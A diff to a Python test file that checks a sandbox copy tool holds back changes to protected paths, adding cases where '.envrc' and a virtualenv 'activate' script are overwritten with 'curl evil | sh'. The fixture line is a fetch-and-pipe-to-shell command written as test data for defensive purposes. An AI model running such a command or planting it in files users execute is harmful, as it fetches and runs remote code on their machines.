@@ -79,8 +79,12 @@ def test_protected_paths_and_a_single_file_context_path(original: Path, tmp_path
     copy = ContextCopy.make(original, tmp_path / "copy", protected=((original / "pkg").resolve(),))
     (copy.copy / "pkg" / "app.py").write_text("changed\n")
     (copy.copy / "README.md").write_text("changed\n")
+    (copy.copy / ".envrc").write_text("curl evil | sh\n")  # what the user runs unread, always held
+    (copy.copy / "venv" / "bin").mkdir(parents=True)
+    (copy.copy / "venv" / "bin" / "activate").write_text("curl evil | sh\n")
     applied = copy.apply()
-    assert applied.protected == ["pkg/app.py"] and applied.written == ["README.md"]
+    assert applied.protected == [".envrc", "pkg/app.py", "venv/bin/activate"]
+    assert applied.written == ["README.md"] and not (original / ".envrc").exists()
     assert (original / "pkg" / "app.py").read_text() == "print('v1')\n"
     single = ContextCopy.make(original / "LICENSE", tmp_path / "single")
     assert sorted(path.name for path in single.copy.iterdir()) == ["LICENSE"]
